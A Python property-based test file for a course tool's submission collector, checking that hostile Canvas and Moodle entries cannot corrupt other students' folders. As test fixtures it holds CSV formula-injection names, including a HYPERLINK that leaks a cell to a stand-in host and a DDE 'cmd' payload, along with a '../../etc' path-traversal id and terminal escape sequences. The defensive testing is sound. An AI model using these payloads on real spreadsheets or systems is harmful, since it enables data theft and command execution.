"""`transformer-course collect` against a hostile student and a careless download: one student's bad
entry is that student's refusal, reported; every other student's folder is as it would be without it;
no folder is half-written; a fault of `--into` is one line.

The property tests build Canvas and Moodle zips in memory-sized temporary folders, in-process (no
kernel): `HYPOTHESIS_PROFILE=long .venv/bin/python -m pytest tests/test_collect_hostile.py` runs the
long profile (tests/conftest.py)."""

from __future__ import annotations

import csv
import errno
import functools
import os
import re
import stat
import tarfile
import tempfile
import unicodedata
import warnings
import zipfile
from dataclasses import dataclass
from pathlib import Path

import pytest
from hypothesis import assume, given
from hypothesis import strategies as st

from transformer_course.cli import main
from transformer_course.grading.output.spreadsheet import FORMULA_START, read_rows
from transformer_course.instructors import collect as collect_module
from transformer_course.instructors.collect import Caps, CollectError, collect, safe_path

from .test_collect import NOTEBOOK, add_tar, files_under

A = "01_self_attention"


def contents(folder: Path) -> dict[str, bytes]:
    return {p.relative_to(folder).as_posix(): p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file()}


def write_zip(path: Path, members: list[tuple[str, bytes, int | None]]) -> Path:
    """A zip of (name, data, unix file type or None) members, in order; a name may repeat."""
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", UserWarning)  # zipfile's "Duplicate name": the point of some tests
        with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
            for name, data, kind in members:
                if kind is None:
                    archive.writestr(name, data)
                else:
                    info = zipfile.ZipInfo(name)
                    info.create_system = 3
                    info.external_attr = (kind | 0o644) << 16
                    archive.writestr(info, data)
    return path


# -- the listed cases --------------------------------------------------------------------------------

MOODLE_CLASS = [
    (f"Ada Lovelace_1001_assignsubmission_file/{A}.ipynb", NOTEBOOK, None),
    (f"Alan Turing_1002_assignsubmission_file/{A}.ipynb", NOTEBOOK + b" ", None),
]


@pytest.mark.parametrize("order", ["file first", "folder first", "flat file"])
def test_moodle_file_and_folder_of_one_name_refuse_that_student_only(tmp_path, order):
    eve = "Eve_1003_assignsubmission_file"
    entries = {"file first": [(f"{eve}/work", b"a file", None), (f"{eve}/work/{A}.ipynb", NOTEBOOK, None)],
               "folder first": [(f"{eve}/work/{A}.ipynb", NOTEBOOK, None), (f"{eve}/work", b"a file", None)],
               "flat file": [(f"{eve}_work", b"a file", None), (f"{eve}/work/{A}.ipynb", NOTEBOOK, None)]}[order]
    # Eve sorts between the honest students: the run must go on after her, not stop half-way
    source = write_zip(tmp_path / "moodle.zip", [MOODLE_CLASS[0], *entries, MOODLE_CLASS[1]])
    into = tmp_path / "submitted"
    report = collect(source, A, into)
    assert set(report.collected) == {"1001", "1002"}
    assert files_under(into) == {f"1001/{A}/{A}.ipynb", f"1002/{A}/{A}.ipynb"}
    [reason] = report.refused_students["1003"]
    assert re.search(r"work is a file, and work a folder of other files", reason), reason
    assert "refused: 1003: " in report.summary()
    assert [p.name for p in into.iterdir() if p.name.startswith(".")] == []


def test_a_name_that_begins_with_a_formula_is_text_in_students_csv(tmp_path):
    names = ["=HYPERLINK(\"https:x.example?leak=\"&A1,\"x\")", "=cmd|' C calc'!A0", "@SUM(1+1)", "+1+cmd", "-2+3",
             "'=already quoted"]
    source = write_zip(tmp_path / "moodle.zip", [(f"{name}_{2001 + i}_assignsubmission_file/{A}.ipynb", NOTEBOOK, None)
                                                 for i, name in enumerate(names)])
    collect(source, A, tmp_path / "submitted")
    with (tmp_path / "students.csv").open(newline="") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    assert not [cell for cell in cells if cell.startswith(FORMULA_START)]  # none a formula when opened
    assert {row["student_id"]: row["name"] for row in read_rows(tmp_path / "students.csv")} == {
        str(2001 + i): name for i, name in enumerate(names)}  # every name back, exactly
    # merged again on a second run: the names read back through the same helper, not quoted twice
    collect(source, A, tmp_path / "again", layout="moodle")
    collect(write_zip(tmp_path / "m2.zip", [(f"Bob_3001_assignsubmission_file/{A}.ipynb", NOTEBOOK, None)]), A,
            tmp_path / "submitted")
    assert {row["student_id"]: row["name"] for row in read_rows(tmp_path / "students.csv")} == {
        **{str(2001 + i): name for i, name in enumerate(names)}, "3001": "Bob"}


def test_a_canvas_name_of_digits_stays_a_name(tmp_path):
    """Canvas writes a student whose sortable name is "12345" as 12345_<user id>_...: that is a name,
    not the user id 12345 (here another student's, whose folder must not receive it)."""
    source = write_zip(tmp_path / "canvas.zip", [
        (f"lovelaceada_12345_5001_{A}.ipynb", NOTEBOOK, None),
        (f"12345_67890_5002_{A}.ipynb", NOTEBOOK + b"digits", None),
        (f"2024_LATE_67891_5003_{A}.ipynb", NOTEBOOK + b"late", None),
    ])
    into = tmp_path / "submitted"
    report = collect(source, A, into)
    assert contents(into) == {f"12345/{A}/{A}.ipynb": NOTEBOOK, f"67890/{A}/{A}.ipynb": NOTEBOOK + b"digits",
                              f"67891/{A}/{A}.ipynb": NOTEBOOK + b"late"}
    assert report.late == ["67891"]
    rows = {row["student_id"]: row for row in read_rows(tmp_path / "students.csv")}
    assert {s: r["name"] for s, r in rows.items()} == {"12345": "lovelaceada", "67890": "12345", "67891": "2024"}


@pytest.mark.parametrize("display", ["Smith_1001", "x_1001-_5-_"])
def test_a_canvas_name_that_reads_as_another_id_refuses_not_writes(tmp_path, display):
    """Canvas keeps a name's "_<digits>" at its end, and takes out punctuation only after it removed
    "_<digits>_": such a prefix reads as another student's id, in Canvas's own reading too. Where that
    student handed in, the two names refuse them (reported), and nothing is written into their folder;
    the crafted files are not written as theirs."""
    prefix = re.sub(r"[^\w]", "", re.sub(r"_(\d+)_", r"\1", display).lower())
    source = write_zip(tmp_path / "canvas.zip", [(f"lovelaceada_1001_5001_{A}.ipynb", NOTEBOOK, None),
                                                 (f"{prefix}_2000_7000_{A}.ipynb", b"crafted", None),
                                                 (f"hopper_1003_5003_{A}.ipynb", NOTEBOOK, None)])
    report = collect(source, A, tmp_path / "submitted")
    assert set(report.collected) == {"1003"}
    assert report.refused_students["1001"][0].startswith("the source gives this student 2 names: ")
    assert b"crafted" not in b"".join(contents(tmp_path / "submitted").values())


def test_a_student_named_anon_does_not_make_a_class_anonymous(tmp_path):
    source = write_zip(tmp_path / "canvas.zip", [(f"anon_123_5001_{A}.ipynb", NOTEBOOK, None),
                                                 (f"lovelaceada_124_5002_{A}.ipynb", NOTEBOOK, None)])
    assert set(collect(source, A, tmp_path / "s").collected) == {"123", "124"}
    anonymous = write_zip(tmp_path / "anon.zip", [(f"anon_123_5001_{A}.ipynb", NOTEBOOK, None)])
    assert set(collect(anonymous, A, tmp_path / "s2").collected) == {"anon_123"}


@pytest.mark.parametrize("archive", ["zip", "tar"])
def test_a_path_twice_in_one_archive_refuses_every_copy(tmp_path, archive):
    """Which copy the student meant is not collect's to guess: the student is refused, every copy
    named, and the instructor decides; the other students are collected."""
    if archive == "zip":
        source = write_zip(tmp_path / "class.zip", [(f"s1/{A}/{A}.ipynb", NOTEBOOK + b"first", None),
                                                    (f"s2/{A}/{A}.ipynb", NOTEBOOK, None),
                                                    (f"s1/{A}/{A}.ipynb", NOTEBOOK + b"second", None)])
    else:
        source = tmp_path / "class.tar"
        with tarfile.open(source, "w") as tar:
            for name, data in ((f"s1/{A}/{A}.ipynb", NOTEBOOK + b"first"), (f"s2/{A}/{A}.ipynb", NOTEBOOK),
                               (f"s1/{A}/{A}.ipynb", NOTEBOOK + b"second")):
                add_tar(tar, name, data)
    into = tmp_path / "submitted"
    report = collect(source, A, into)
    assert contents(into) == {f"s2/{A}/{A}.ipynb": NOTEBOOK}
    assert report.refused_students["s1"] == [f"2 files would be one (s1/{A}/{A}.ipynb, s1/{A}/{A}.ipynb): "
                                             "every copy refused"]


def test_paths_one_disk_takes_for_one_refuse_that_student(tmp_path):
    nfc, nfd = unicodedata.normalize("NFC", "é.txt"), unicodedata.normalize("NFD", "é.txt")
    source = write_zip(tmp_path / "class.zip", [(f"s1/{A}/Notes.txt", b"1", None), (f"s1/{A}/notes.txt", b"2", None),
                                                (f"s2/{A}/{nfc}", b"1", None), (f"s2/{A}/{nfd}", b"2", None),
                                                (f"Bob/{A}/{A}.ipynb", NOTEBOOK, None),
                                                (f"bob/{A}/{A}.ipynb", NOTEBOOK, None),
                                                (f"s3/{A}/{A}.ipynb", NOTEBOOK, None)])
    report = collect(source, A, tmp_path / "submitted")
    assert set(report.collected) == {"s3"}
    assert set(report.refused_students) == {"s1", "s2", "Bob", "bob"}
    assert "only by case" in report.refused_students["bob"][0]


def test_caps_on_the_number_of_files_say_which_and_the_figure(tmp_path):
    """100,000 tiny files took 417 MiB of disk: a student past --max-files is refused before anything
    is written; a class past --max-total-files stops the step with nothing written."""
    many = [(f"s1/{A}/f{i:05d}.txt", b"x", None) for i in range(1000)]
    source = write_zip(tmp_path / "many.zip", [*many, (f"s2/{A}/{A}.ipynb", NOTEBOOK, None)])
    into = tmp_path / "submitted"
    report = collect(source, A, into)
    assert report.refused_students == {"s1": ["1000 files, over the cap of 100 per student (--max-files)"]}
    assert files_under(into) == {f"s2/{A}/{A}.ipynb"}
    assert sum(p.stat().st_blocks * 512 for p in tmp_path.joinpath("submitted").rglob("*")) < 64 << 10
    with pytest.raises(CollectError, match=r"the 2 hand-ins to collect hold 1001 files, over the cap of 1000 in all "
                                           r"\(--max-total-files\); nothing written"):
        collect(source, A, tmp_path / "other", caps=Caps(student_files=2000, total_files=1000))
    assert not (tmp_path / "other").exists()
    big = write_zip(tmp_path / "big.zip", [(f"s1/{A}/a.bin", bytes(3000), None), (f"s1/{A}/b.bin", bytes(3000), None),
                                           (f"s2/{A}/{A}.ipynb", NOTEBOOK, None)])
    report = collect(big, A, tmp_path / "third", caps=Caps(student_bytes=5000))
    assert report.refused_students == {"s1": ["its files declare 6000 bytes, over the cap of 5000 per student "
                                              "(--max-student-mb)"]}


def test_a_member_that_fails_while_written_leaves_no_half_folder(tmp_path):
    """s1's second member is damaged (its CRC is wrong): s1's folder is absent, not half-written."""
    source = write_zip(tmp_path / "class.zip", [(f"s1/{A}/{A}.ipynb", NOTEBOOK, None),
                                                (f"s1/{A}/zz.txt", b"damaged" * 100, None),
                                                (f"s2/{A}/{A}.ipynb", NOTEBOOK, None)])
    data = bytearray(source.read_bytes())
    info = zipfile.ZipFile(source).getinfo(f"s1/{A}/zz.txt")
    at = info.header_offset + 30 + len(info.filename) + len(info.extra)  # first byte of its deflated data
    data[at + 2] ^= 0xFF
    source.write_bytes(bytes(data))
    into = tmp_path / "submitted"
    report = collect(source, A, into)
    assert files_under(into) == {f"s2/{A}/{A}.ipynb"}
    [reason] = report.refused_students["s1"]
    assert reason.startswith("not written: ") and ("BadZipFile" in reason or "error" in reason.lower()), reason
    assert sorted(p.name for p in into.iterdir()) == ["s2"]


def test_replace_swaps_a_folder_in_one_piece(tmp_path):
    source = write_zip(tmp_path / "class.zip", [(f"s1/{A}/{A}.ipynb", NOTEBOOK, None)])
    into = tmp_path / "submitted"
    (into / "s1" / A).mkdir(parents=True)
    (into / "s1" / A / "old.txt").write_text("old")
    collect(source, A, into, replace=True)
    assert contents(into) == {f"s1/{A}/{A}.ipynb": NOTEBOOK}


def one_line_error(capsys) -> str:
    err = capsys.readouterr().err.strip().splitlines()
    assert err and err[-1].startswith("transformer-course collect: error: "), err
    return err[-1]


def test_an_into_that_cannot_be_written_is_one_line(tmp_path, capsys, monkeypatch):
    source = write_zip(tmp_path / "class.zip", [(f"s1/{A}/{A}.ipynb", NOTEBOOK, None),
                                                (f"s2/{A}/{A}.ipynb", NOTEBOOK, None)])
    afile = tmp_path / "afile"
    afile.write_text("not a folder")
    for into in (afile, afile / "submitted"):
        assert main(["collect", str(source), "--assignment", "01", "--into", str(into)]) == 1
        line = one_line_error(capsys)
        assert f"--into {into}: cannot write there: " in line and "(nothing written)" in line, line
    if os.geteuid() != 0:  # root writes into a read-only folder anyway; the stand-in below is for everyone
        readonly = tmp_path / "readonly"
        readonly.mkdir()
        readonly.chmod(stat.S_IRUSR | stat.S_IXUSR)
        assert main(["collect", str(source), "--assignment", "01", "--into", str(readonly / "s")]) == 1
        assert "Permission denied" in one_line_error(capsys)
    # A disk that turns read-only (or full) half-way: one line, the students written before are complete.
    real_replace = os.replace
    calls = []

    def replace_then_fail(src, dst):
        calls.append(dst)
        if len(calls) > 1:
            raise OSError(errno.EROFS, "Read-only file system")
        return real_replace(src, dst)

    monkeypatch.setattr(collect_module.os, "replace", replace_then_fail)
    into = tmp_path / "half"
    assert main(["collect", str(source), "--assignment", "01", "--into", str(into)]) == 1
    monkeypatch.undo()
    line = one_line_error(capsys)
    assert line.endswith(f"--into {into}: cannot write there: Read-only file system (1 student collected before it, "
                         "each folder complete)"), line
    assert contents(into) == {f"s1/{A}/{A}.ipynb": NOTEBOOK}


def test_a_students_csv_beside_a_read_only_into_is_one_line(tmp_path, capsys, monkeypatch):
    source = write_zip(tmp_path / "m.zip", [(f"Ada_1001_assignsubmission_file/{A}.ipynb", NOTEBOOK, None)])

    def no_room(*args, **kwargs):
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(collect_module.tempfile, "mkstemp", no_room)
    assert main(["collect", str(source), "--assignment", "01", "--into", str(tmp_path / "s")]) == 1
    assert "students.csv not written: No space left on device (the students' folders are written)" in \
        one_line_error(capsys)
    assert files_under(tmp_path / "s") == {f"1001/{A}/{A}.ipynb"}


# -- generated hostile entries ----------------------------------------------------------------------

# What a student chooses: a display name and the names, kinds, sizes and number of their files. The
# alphabet leans on what breaks paths and spreadsheets: separators, dots, digits (other students'
# ids among them), formula characters, letters that Unicode normalisation or case folding merge.
PIECES = ["1001", "1002", "2000", "..", ".", "", "=", "+", "-", "@", "_", "/", "\\", " ", "nb", "NB", "Nb",
          "\u00e9", "e\u0301", "\u212b", "\u00c5", "LATE", "anon", "x", ".ipynb", "\t", "\x00", ":"]
piece_text = st.lists(st.sampled_from(PIECES) | st.text(max_size=3), min_size=1, max_size=5).map("".join)
HOSTILE = "2000"  # the hostile student's id (Canvas's user id, Moodle's participant id)
CAPS = Caps(file_bytes=4096, student_bytes=6144, student_files=12, total_bytes=1 << 20, total_files=1000)


@dataclass
class Entry:
    name: str  # the file's name (Canvas) or path in the student's folder (Moodle), as the student chose it
    size: int
    kind: int | None  # None: a regular file; else a unix file type in the zip's attributes


entries = st.lists(st.builds(Entry, piece_text, st.sampled_from([0, 1, 100, 4096, 4097, 5000]),
                             st.sampled_from([None, None, None, None, stat.S_IFLNK, stat.S_IFIFO, stat.S_IFDIR])),
                   min_size=1, max_size=8)
# sometimes many more files than the cap allows
counts = st.sampled_from([0, 0, 0, CAPS.student_files + 1])


def canvas_name(display: str) -> str:
    """What Canvas makes of a sortable name in a file name (lib/content_zipper.rb: sanitize_user_name,
    then the whole prefix through sanitize_file_name, which keeps word characters only)."""
    name = re.sub(r"_(\d+)_", r"\1", display).lower()
    return re.sub(r"[^\w]", "", name)


def canvas_file(name: str) -> str:
    """What Canvas makes of an attachment's name (sanitize_attachment_filename)."""
    return re.sub(r'[\x00/\\:*?"<>|]+', "_", name)


def moodle_name(display: str) -> str:
    """What Moodle makes of a full name in a folder name (downloader.php: "_" become spaces, then
    clean_filename drops what a file name cannot hold)."""
    return re.sub(r'[\x00-\x1f/\\:*?"<>|]', "", display.replace("_", " "))


CANVAS_CLASS = [(f"lovelaceada_1001_5001_{A}.ipynb", NOTEBOOK, None), (f"turingalan_LATE_1002_5002_{A}.ipynb",
                                                                         NOTEBOOK + b" ", None),
                ("hopper_1003_5003_notes.txt", b"notes", None)]
MOODLE_HONEST = [*MOODLE_CLASS, ("Grace Hopper_1003_assignsubmission_file/sub/helper.py", b"x = 1", None),
                 (f"Grace Hopper_1003_assignsubmission_file/{A}.ipynb", NOTEBOOK, None)]


def hostile_members(layout: str, display: str, chosen: list[Entry], extra: int) -> list[tuple[str, bytes, int | None]]:
    chosen = chosen + [Entry(f"many{i}.txt", 1, None) for i in range(extra)]
    members = []
    for i, entry in enumerate(chosen):
        data = bytes([65 + i % 26]) * entry.size
        if layout == "canvas":
            members.append((f"{canvas_name(display)}_{HOSTILE}_{7000 + i}_{canvas_file(entry.name)}", data, entry.kind))
        else:
            members.append((f"{moodle_name(display)}_{HOSTILE}_assignsubmission_file/{entry.name}", data, entry.kind))
    return members


def run_collect(members: list[tuple[str, bytes, int | None]], layout: str):
    with tempfile.TemporaryDirectory() as tmp:
        root = Path(tmp)
        source = write_zip(root / "download.zip", members)
        into = root / "class" / "submitted"
        report = collect(source, A, into, layout=layout, caps=CAPS)
        by_student = {s.name: contents(s) for s in into.iterdir() if not s.name.startswith(".")}
        leftovers = [p.name for p in into.iterdir() if p.name.startswith(".")]
        names = {row["student_id"]: row for row in read_rows(root / "class" / "students.csv")}
        with (root / "class" / "students.csv").open(newline="") as handle:
            formulas = [c for row in csv.reader(handle) for c in row if c.startswith(FORMULA_START)]
    return report, by_student, leftovers, names, formulas


@functools.cache
def baseline_run(layout: str):
    return run_collect(CANVAS_CLASS if layout == "canvas" else MOODLE_HONEST, layout)


def check_hostile_class(layout: str, hostile):
    honest = CANVAS_CLASS if layout == "canvas" else MOODLE_HONEST
    baseline, honest_files, _, honest_names, _ = baseline_run(layout)
    # the hostile student's entries come first or between the others' (a run must not stop half-way)
    for members in ([*hostile, *honest], [honest[0], *hostile, *honest[1:]]):
        report, files, leftovers, names, formulas = run_collect(members, layout)  # completes: no exception
        assert leftovers == [] and formulas == []
        # every other student's folder and row are as they are without the hostile entries
        assert {s: f for s, f in files.items() if s != HOSTILE} == honest_files
        assert {s: r for s, r in names.items() if s != HOSTILE} == honest_names
        assert set(report.collected) - {HOSTILE} == set(baseline.collected)
        # the names the zip keeps (zipfile ends a name at its first NUL); a directory holds nothing
        kept = [(name.split("\x00")[0], data, kind) for name, data, kind in hostile]
        files_handed_in = [(n, d, k) for n, d, k in kept if not n.endswith("/") and k != stat.S_IFDIR]
        if HOSTILE in report.collected:
            # complete: exactly the regular files handed in, with their bytes
            expected = {}
            for name, data, kind in files_handed_in:
                try:
                    path = safe_path(name).as_posix()
                except ValueError:
                    continue
                match = (collect_module.CANVAS_NAMED if layout == "canvas" else collect_module.MOODLE).match(path)
                if kind is None and match:
                    inner = match["file"] if layout == "canvas" else match["inner"] or match["flat"]
                    expected[f"{A}/{safe_path(inner).as_posix()}"] = data
            assert files[HOSTILE] == expected
        else:
            assert HOSTILE not in files
            # reported with a reason: the student refused, or each of their files skipped or refused (one
            # line each, beside the lines the honest class has anyway)
            lines = len(report.skipped) + len(report.refused) - len(baseline.skipped) - len(baseline.refused)
            assert report.refused_students.get(HOSTILE) or lines >= len(files_handed_in), report.summary()


@given(display=piece_text, chosen=entries, extra=counts)
def test_a_hostile_canvas_student_changes_no_other_student(display, chosen, extra):
    # A prefix that holds "_<digits>_" is read as another's id, as Canvas reads it itself: the known
    # limit of its naming, held by test_a_canvas_name_that_reads_as_another_id_refuses_not_writes.
    assume(not re.search(r"_\d+_", canvas_name(display) + "_"))
    check_hostile_class("canvas", hostile_members("canvas", display, chosen, extra))


@given(display=piece_text, chosen=entries, extra=counts)
def test_a_hostile_moodle_student_changes_no_other_student(display, chosen, extra):
    check_hostile_class("moodle", hostile_members("moodle", display, chosen, extra))


def test_the_summary_shows_a_terminal_escape_in_a_name_and_does_not_send_it(tmp_path):
    source = write_zip(tmp_path / "class.zip", [(f"s1/{A}/{A}.ipynb", NOTEBOOK, None),
                                                ("\x1b[2J\x1b]0;owned\x07.txt", b"x", None)])
    summary = collect(source, A, tmp_path / "submitted").summary()
    assert "\x1b" not in summary and "\x07" not in summary
    assert "\\x1b[2J\\x1b]0;owned\\x07.txt (not in nbgrader's" in summary


# -- hand-in times: what a hand-edit or a student can put where the grader reads them ------------------

def test_a_broken_times_csv_is_flagged_and_never_stops_the_run(tmp_path):
    """times.csv edited by hand into something else (another header, bytes that are not text, a row
    without a time from no download): each hand-in is flagged, the run goes on, no penalty is guessed."""
    from transformer_course.instructors.deadlines import submitted_at

    source = write_zip(tmp_path / "c.zip", [(f"x_10001_1_{A}.ipynb", NOTEBOOK, None)])
    into = tmp_path / "class" / "submitted"
    collect(source, A, into)
    folder, notebook = into / "10001" / A, into / "10001" / A / f"{A}.ipynb"
    times_csv = tmp_path / "class" / "times.csv"
    for broken in (b"id,when\n10001,2026\n", b"\xff\xfe\x00garbage\x00",
                   f"student_id,assignment,submitted_at\n10001,{A},2026\n".encode()):
        times_csv.write_bytes(broken)
        when, note, flag = submitted_at(folder, notebook)
        assert flag.startswith("timestamp.txt or times.csv could not be read (")
        assert when is not None and note.endswith("the notebook file's modification time was used instead")
    times_csv.write_text(f"student_id,assignment,submitted_at,source\n10001,{A},,a note from somewhere\n")
    when, note, flag = submitted_at(folder, notebook)
    assert when is None and flag == note == ("times.csv gives no time, only 'a note from somewhere'; not marked "
                                             "late: check it by hand, or give its time with `collect --times`")


def test_a_times_file_s_hostile_cells_are_named_not_run(tmp_path, capsys):
    """A --times file from a spreadsheet: a formula, a control character, a path for a student id; each
    row is named (escaped), nothing is collected, nothing is written."""
    source = write_zip(tmp_path / "c.zip", [(f"x_10001_1_{A}.ipynb", NOTEBOOK, None)])
    given = tmp_path / "t.csv"
    given.write_text("student_id,assignment,submitted_at\n"
                     "=HYPERLINK(\"http://x\"),01,2026-11-23T18:00:00Z\n"
                     "10001\x1b[2J,01,2026-11-23T18:00:00Z\n"
                     "../../etc,01,2026-11-23T18:00:00Z\n")
    into = tmp_path / "submitted"
    assert main(["collect", str(source), "--assignment", "01", "--into", str(into), "--times", str(given)]) == 1
    err = capsys.readouterr().err
    assert "3 bad rows" in err and "\x1b" not in err and "'10001\\x1b[2J'" in err
    assert "line 2: student_id '=HYPERLINK(\"http://x\")' is not a student id" in err
    assert not into.exists() and not (tmp_path / "times.csv").exists()
